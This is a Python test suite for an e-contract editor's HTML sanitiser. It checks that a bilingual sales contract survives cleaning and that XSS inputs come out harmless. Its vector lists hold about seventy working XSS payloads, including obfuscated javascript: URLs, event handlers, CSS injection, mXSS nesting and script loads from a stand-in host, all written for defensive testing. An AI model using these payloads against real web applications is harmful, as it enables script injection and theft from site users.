"""Editor HTML sanitising: XSS vectors come out harmless, a real contract comes out intact."""

from __future__ import annotations

import re
import time
from dataclasses import dataclass, field
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from econtract.documents.sanitizing import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    HTML_TOO_DEEP,
    HTML_TOO_LARGE,
    MAX_CHARACTER_REFERENCES,
    MAX_DEPTH,
    MAX_HTML_BYTES,
    UnsafeHtml,
    clean_html,
    filter_style,
    nesting_depth,
)

XSS_VECTORS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="http://evil.example/track.png">',
    '<img src="https://evil.example/track.png" alt="tracker">',
    '<img src="//evil.example/track.png">',
    '<img srcset="http://evil.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="/documents/images/../../admin">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<style>@import url(http://evil.example/x.css);</style><p>t</p>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(http://evil.example/x)">t</p>',
    '<p style="background-image: url(&quot;http://evil.example/x&quot;)">t</p>',
    '<td style="width:expression(alert(1))">t</td>',
    '<table><tr><td style="width: expression(alert(1))">t</td></tr></table>',
    '<p style="text-align: center; behavior: url(x.htc)">t</p>',
    '<p style="-moz-binding: url(http://evil.example/xbl)">t</p>',
    '<p style="margin-left: 2e\\m">t</p>',
    '<p style="margin-left: calc(1em + url(x))">t</p>',
    '<p style="text-align:center/**/;width:100px">t</p>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<form action="http://evil.example"><input name="p" onfocus="alert(1)" autofocus></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<div class="x page-break evil" onmouseover="alert(1)">t</div>',
    '<span class="ec-field-admin ec-field" id="login" data-kind="script">t</span>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror="alert(1)"></template>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<p><!--[if IE]><img src=x onerror="alert(1)"><![endif]--></p>',
    '<xmp><img src=x onerror="alert(1)"></xmp>',
    '<textarea><img src=x onerror="alert(1)"></textarea>',
    '<td colspan="2 onmouseover=alert(1)">t</td>',
    '<a href="https://ok.example" style="color:red">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
]

# Every tag the editor may produce, each carrying an event handler.
EVENT_HANDLER_VECTORS: list[str] = [
    f'<{tag} onclick="alert(1)" onmouseover="alert(2)" ONLOAD="alert(3)">t</{tag}>'
    for tag in sorted(ALLOWED_TAGS)
]

FORBIDDEN_VALUE_FRAGMENTS = (
    "javascript:",
    "vbscript:",
    "data:text",
    "url(",
    "expression(",
    "@import",
    "behavior",
)
CLASS_NAMES = set().union(*ALLOWED_CLASSES.values())


@dataclass
class ParsedOutput:
    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    declarations: list[str] = field(default_factory=list)


class OutputParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = ParsedOutput()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parsed.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.parsed.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.parsed.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.parsed.declarations.append(decl)

    def handle_pi(self, data: str) -> None:
        self.parsed.declarations.append(data)


def parse(html: str) -> ParsedOutput:
    parser = OutputParser()
    parser.feed(html)
    parser.close()
    return parser.parsed


def squeeze(value: str) -> str:
    """An attribute value as a URL parser or CSS engine would read it: no whitespace, no controls."""
    return re.sub(r"[\x00-\x20\x7f]+", "", unescape(value)).lower()


def assert_harmless(html: str) -> None:
    parsed = parse(html)
    assert not parsed.comments
    assert not parsed.declarations
    for tag, attributes in parsed.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name in ALLOWED_ATTRIBUTES[tag] | ({"rel"} if tag == "a" else set()), (tag, name)
            flat = squeeze(value or "")
            for fragment in FORBIDDEN_VALUE_FRAGMENTS:
                assert fragment not in flat, (tag, name, value)
            if name == "href":
                assert re.match(r"(https?://[^/]|mailto:)", flat), value
            if name == "src":
                assert re.match(
                    r"(data:image/(png|jpeg);base64,|/documents/images/[0-9a-f-]{36}/?$)", flat
                ), value
            if name == "class":
                assert set((value or "").split()) <= CLASS_NAMES, value
            if name in ("colspan", "rowspan", "width", "height"):
                assert (value or "").isdigit(), (name, value)
    # Whatever remained as text is text: the dangerous tag names never parse as elements.
    assert not {tag for tag, _ in parsed.tags} & {"script", "style", "svg", "math", "iframe", "base"}


def test_the_vector_lists_are_long_enough() -> None:
    # Given the brief's floor of 40 classic vectors, then the list honours it.
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize(
    "raw",
    [
        '<img src=x onerror="alert(1)">',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<p style="background:url(http://evil.example/x)">t</p>',
        '<img src="http://evil.example/track.png">',
        "<svg onload=alert(1)>",
        "<!--x-->",
        '<div class="evil">t</div>',
        '<a href="//evil.example">x</a>',
    ],
)
def test_the_harmlessness_check_itself_catches_raw_vectors(raw: str) -> None:
    # Given an uncleaned vector, when checked, then the checker used below rejects it.
    with pytest.raises(AssertionError):
        assert_harmless(raw)


@pytest.mark.parametrize("vector", XSS_VECTORS + EVENT_HANDLER_VECTORS)
def test_xss_vectors_come_out_harmless(vector: str) -> None:
    # Given an XSS vector, when it is cleaned, then a parser finds only allowlisted tags and values.
    cleaned = clean_html(vector)
    assert_harmless(cleaned)
    # And it stays so when wrapped in allowed markup or cleaned again.
    assert_harmless(clean_html(f"<p><strong>{vector}</strong></p><table><tr><td>{vector}</td></tr></table>"))
    assert clean_html(cleaned) == cleaned


def test_script_content_is_dropped_not_shown() -> None:
    # Given script and style elements, when cleaned, then neither their tags nor their code survive.
    cleaned = clean_html(
        "<p>before</p><script>alert(1)</script><style>p{}</style><svg><text>s</text></svg><p>after</p>"
    )
    assert cleaned == "<p>before</p><p>after</p>"


def test_links_keep_their_url_and_get_a_safe_rel() -> None:
    # Given http, https and mailto links, when cleaned, then each keeps its URL with rel nofollow.
    cleaned = clean_html(
        '<a href="https://example.com/a?b=1">a</a><a href="http://example.com">b</a><a href="mailto:x@example.com">c</a>'
    )
    hrefs = [attrs.get("href") for tag, attrs in parse(cleaned).tags if tag == "a"]
    rels = {attrs.get("rel") for tag, attrs in parse(cleaned).tags if tag == "a"}
    assert hrefs == ["https://example.com/a?b=1", "http://example.com", "mailto:x@example.com"]
    assert rels == {"noopener noreferrer nofollow"}


def test_refused_links_keep_their_text() -> None:
    # Given a javascript: link, when cleaned, then the words stay and the href goes.
    assert (
        clean_html('<a href="javascript:alert(1)">pay here</a>')
        == '<a rel="noopener noreferrer nofollow">pay here</a>'
    )


def test_images_only_inline_png_jpeg_or_our_own_path() -> None:
    # Given inline PNG/JPEG images, our image path and a remote image, then only the remote src goes.
    own = "/documents/images/123e4567-e89b-12d3-a456-426614174000"
    cleaned = clean_html(
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="seal" width="120" height="80">'
        '<img src="data:image/jpeg;base64,/9j/4AAQ">'
        f'<img src="{own}">'
        '<img src="https://cdn.example.com/logo.png">'
    )
    srcs = [attrs.get("src") for tag, attrs in parse(cleaned).tags if tag == "img"]
    assert srcs == ["data:image/png;base64,iVBORw0KGgo=", "data:image/jpeg;base64,/9j/4AAQ", own, None]
    assert 'alt="seal" width="120" height="80"' in cleaned


def test_classes_outside_the_allowlist_are_filtered_out() -> None:
    # Given allowed and unknown classes, when cleaned, then only the allowed ones stay, per tag.
    cleaned = clean_html(
        '<div class="x page-break y"></div><p class="text-align-center indent-3 indent-9 page-break">t</p>'
        '<span class="ec-field ec-field-seal hidden">s</span><p class="evil">u</p>'
    )
    assert cleaned == (
        '<div class="page-break"></div><p class="text-align-center indent-3">t</p>'
        '<span class="ec-field ec-field-seal">s</span><p>u</p>'
    )


def test_field_span_attributes_are_validated() -> None:
    # Given an ec-field span with a bad id and kind, when cleaned, then only valid attributes stay.
    good = clean_html(
        '<span class="ec-field" id="ec-field-buyer_sig-1" data-kind="signature" data-party="buyer">x</span>'
    )
    bad = clean_html(
        '<span class="ec-field" id="main" data-kind="script" data-party="a b" data-field="&quot;x">x</span>'
    )
    assert (
        'id="ec-field-buyer_sig-1"' in good
        and 'data-kind="signature"' in good
        and 'data-party="buyer"' in good
    )
    assert bad == '<span class="ec-field">x</span>'


@pytest.mark.parametrize(
    ("tag", "style", "expected"),
    [
        ("p", "text-align: center", "text-align:center"),
        ("p", "TEXT-ALIGN: Justify; color: red", "text-align:justify"),
        ("p", "margin-left: 2em; padding-left: 24px", "margin-left:2em;padding-left:24px"),
        ("p", "margin-left: 11em", None),
        ("p", "margin-left: 200px", None),
        ("p", "margin-left: 120pt", "margin-left:120pt"),
        ("td", "width: 50%", "width:50%"),
        ("img", "width: 300px", "width:300px"),
        ("p", "width: 50%", None),
        ("td", "width: 150%", None),
        (
            "span",
            "font-weight: bold; font-style: italic; text-decoration: underline",
            "font-weight:bold;font-style:italic;text-decoration:underline",
        ),
        ("p", "position: fixed; top: 0", None),
        ("p", "text-align: center !important", None),
        ("p", "margin-left: 1em; margin-left: url(x)", "margin-left:1em"),
    ],
)
def test_style_keeps_only_allowed_properties_with_plain_values(
    tag: str, style: str, expected: str | None
) -> None:
    # Given a style attribute, when filtered, then only allowed declarations with plain values remain.
    assert filter_style(tag, style) == expected


def test_style_survives_clean_html_in_the_normalised_form() -> None:
    # Given an editor paragraph with alignment and indentation, then the style stays, normalised.
    assert (
        clean_html('<p style="text-align: right; margin-left: 3em; background: url(x)">t</p>')
        == '<p style="text-align:right;margin-left:3em">t</p>'
    )


def test_input_over_two_megabytes_is_refused() -> None:
    # Given HTML one byte over the limit (in UTF-8), when cleaned, then it is refused by code.
    with pytest.raises(UnsafeHtml) as refused:
        clean_html("<p>" + "合" * (MAX_HTML_BYTES // 3) + "</p>")
    assert refused.value.code == HTML_TOO_LARGE
    assert isinstance(refused.value, ValueError)


def test_input_at_the_limit_is_accepted() -> None:
    # Given HTML exactly at the byte limit, when cleaned, then it passes.
    body = "a" * (MAX_HTML_BYTES - len("<p></p>"))
    assert clean_html(f"<p>{body}</p>") == f"<p>{body}</p>"


def test_nesting_deeper_than_the_limit_is_refused() -> None:
    # Given 201 nested divs, when cleaned, then it is refused; 200 pass.
    with pytest.raises(UnsafeHtml) as refused:
        clean_html("<div>" * (MAX_DEPTH + 1) + "x" + "</div>" * (MAX_DEPTH + 1))
    assert refused.value.code == HTML_TOO_DEEP
    assert clean_html("<div>" * MAX_DEPTH + "x" + "</div>" * MAX_DEPTH).count("<div>") == MAX_DEPTH


def test_unclosed_sibling_paragraphs_are_not_deep() -> None:
    # Given 500 paragraphs without end tags (siblings in HTML), when cleaned, then they are accepted.
    assert clean_html("<p>x" * 500).count("<p>") == 500


def test_unclosed_nesting_is_still_counted() -> None:
    # Given 300 unclosed <b> elements (they do nest), when cleaned, then it is refused as too deep.
    with pytest.raises(UnsafeHtml) as refused:
        clean_html("<b>" * 300 + "x")
    assert refused.value.code == HTML_TOO_DEEP


def test_tables_nesting_through_implied_rows_are_refused() -> None:
    # Given 70 nested tables written "<table><td>" (the parser adds tbody and tr: 280 levels), when
    # cleaned, then the output's depth is checked too and the input is refused.
    with pytest.raises(UnsafeHtml) as refused:
        clean_html("<table><td>" * 70 + "x")
    assert refused.value.code == HTML_TOO_DEEP


def test_too_many_character_references_are_refused() -> None:
    # Given more ampersands than the limit (html5ever slows down with each), then it is refused.
    with pytest.raises(UnsafeHtml) as refused:
        clean_html("<p>" + "&amp;x" * (MAX_CHARACTER_REFERENCES + 1) + "</p>")
    assert refused.value.code == HTML_TOO_LARGE
    assert clean_html("<p>" + "&amp;x" * 100 + "</p>") == "<p>" + "&amp;x" * 100 + "</p>"


@pytest.mark.parametrize("piece", ["<a", "</", "<!--", "<p a=", "<", "</b>", "<![CDATA["])
def test_pathological_input_is_handled_in_bounded_time(piece: str) -> None:
    # Given 2 MB of a piece that makes html.parser quadratic, when cleaned, then it ends in seconds.
    started = time.monotonic()
    try:
        clean_html(piece * ((MAX_HTML_BYTES - 16) // len(piece)))
    except UnsafeHtml:
        pass
    assert time.monotonic() - started < 10


def test_nesting_depth_counts_open_elements() -> None:
    # Given nested, sibling, void and unclosed elements, then the scan reports the depth an HTML
    # parser would build (or more).
    assert nesting_depth("<div><p>a</p><p>b<br><img src=x></p></div>") == 2
    assert nesting_depth("<ul><li>a<li>b<li>c</ul>") == 2
    assert nesting_depth("<b><i><u>x") == 3
    assert nesting_depth("<!-- <div><div> -->x") == 0


CONTRACT = (
    '<h1 style="text-align: center">买卖合同 Sales Contract</h1>'
    '<p class="text-align-justify">甲方（卖方）：上海示例有限公司 Seller: Shanghai Example Co., Ltd.</p>'
    "<h2>第一条 标的 Article 1 Subject</h2>"
    "<ol><li><p>货物名称：<strong>工业机器人</strong> (industrial robot)</p>"
    "<ul><li><p>型号 Model: <em>R-2000</em></p></li><li><p>数量 Quantity: <u>10</u> 台</p></li></ul></li>"
    "<li><p>交付地点：<s>北京</s> 上海 — delivery in Shanghai</p></li></ol>"
    '<table><tbody><tr><th colspan="2">价款 Price</th></tr>'
    '<tr><td style="width: 50%">单价 Unit price</td><td>¥100,000</td></tr>'
    '<tr><td rowspan="1">总价 Total</td><td>¥1,000,000</td></tr></tbody></table>'
    '<p class="indent-2" style="margin-left: 2em">付款：买方应于三十日内付款。Payment within thirty days.'
    '<br>See <a href="https://example.com/terms">terms</a>.</p>'
    "<blockquote><p>本合同一式两份。</p></blockquote><hr>"
    '<div class="page-break"></div>'
    '<p>买方签字 Buyer: <span class="ec-field ec-field-signature" data-field="buyer_sig" data-kind="signature" '
    'data-party="buyer" id="ec-field-buyer_sig-1">[签名]</span></p>'
    '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="公章 seal" width="120" height="120"></p>'
)


def structure(html: str) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
    """Tags with their meaningful attributes (style normalised, nh3's own rel left out)."""
    shape = []
    for tag, attributes in parse(html).tags:
        kept = tuple(
            sorted(
                (name, re.sub(r"\s+", "", value or "") if name == "style" else value)
                for name, value in attributes.items()
                if name != "rel"
            )
        )
        shape.append((tag, kept))
    return shape


def test_a_realistic_contract_survives_unchanged_in_meaning() -> None:
    # Given a bilingual contract with lists, a table, alignment, a page break, a field and an image,
    # when cleaned, then its text and structure are the same and the link is marked nofollow.
    cleaned = clean_html(CONTRACT)
    assert "".join(parse(cleaned).text) == "".join(parse(CONTRACT).text)
    assert structure(cleaned) == structure(CONTRACT)
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert clean_html(cleaned) == cleaned


HTML_PIECES = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<table>",
        "<tr>",
        "<td colspan=2>",
        "</td>",
        "</table>",
        "<li>",
        "<ul>",
        "</ul>",
        "<a href='https://x.example'>",
        "<a href=javascript:x>",
        "</a>",
        "<b>",
        "</b>",
        "<i>",
        "<object>",
        "<form>",
        "<caption>",
        "<select>",
        "<svg>",
        "<math>",
        "<style>",
        "<script>",
        "<!--",
        "-->",
        "<div class='page-break x'>",
        "</div>",
        "<span class=ec-field data-kind=seal>",
        "<p style='text-align: center; color: red'>",
        "<img src=x onerror=y>",
        "<br>",
        "<h1>",
        "<blockquote>",
        "&amp;",
        "&lt;",
        "<",
        ">",
        '"',
        "合同",
        "&nbsp;",
        "&",
        "&amp",
        "&#x3c;",
        "text",
        " ",
        "\n",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(HTML_PIECES | st.text(max_size=8), max_size=40).map("".join))
def test_clean_html_is_idempotent(html: str) -> None:
    # Given any soup of editor tags, hostile tags and text, when cleaned twice, then nothing changes
    # the second time, and the output is harmless.
    once = clean_html(html)
    assert clean_html(once) == once
    assert_harmless(once)
